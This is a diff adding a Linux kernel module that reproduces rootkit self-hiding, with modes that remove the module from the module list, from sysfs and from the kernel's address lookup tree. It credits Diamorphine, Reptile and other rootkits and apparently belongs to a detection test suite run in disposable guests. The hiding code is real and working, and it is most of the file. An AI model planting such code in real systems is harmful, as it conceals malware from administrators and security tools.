@@ -1,0 +1,46 @@
+// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
+/*
+ * Technique: a module takes itself out of the list of modules (how=list), of sysfs too (how=sysfs), and of the tree by which
+ * the kernel finds modules by address as well (how=everywhere). Who: Diamorphine, Reptile, KoviD, Singularity.
+ * Changes: its own links. how=list comes back when 1 is written to its parameter `undo`; of the others the guest is
+ * thrown away.
+ */
+#include "attack.h"
+
+#include <linux/rbtree_latch.h>
+
+VARIANT("list");
+KERNEL_SYMBOL(mod_tree);
+KERNEL_SYMBOL(mod_tree_remove);
+KERNEL_SYMBOL(modules);
+
+static int undo(const char *value, const struct kernel_param *parameter)
+{
+	if (!modules_at)
+		return -ENOENT;
+	if (list_empty(&THIS_MODULE->list))
+		list_add_rcu(&THIS_MODULE->list, (struct list_head *)modules_at);
+	return 0;
+}
+static const struct kernel_param_ops undo_operations = {.set = undo};
+module_param_cb(undo, &undo_operations, NULL, 0200);
+
+static int __init start(void)
+{
+	if (HOW("everywhere") && !mod_tree_remove_at)
+		return -ENOENT;
+	list_del_init(&THIS_MODULE->list);
+	if (HOW("list"))
+		return 0;
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	list_del_init(&THIS_MODULE->mkobj.kobj.entry);
+	if (HOW("everywhere"))
+		((void (*)(struct module *))mod_tree_remove_at)(THIS_MODULE);
+	return 0;
+}
+
+static void __exit stop(void)
+{
+}
+
+ATTACK(start, stop);
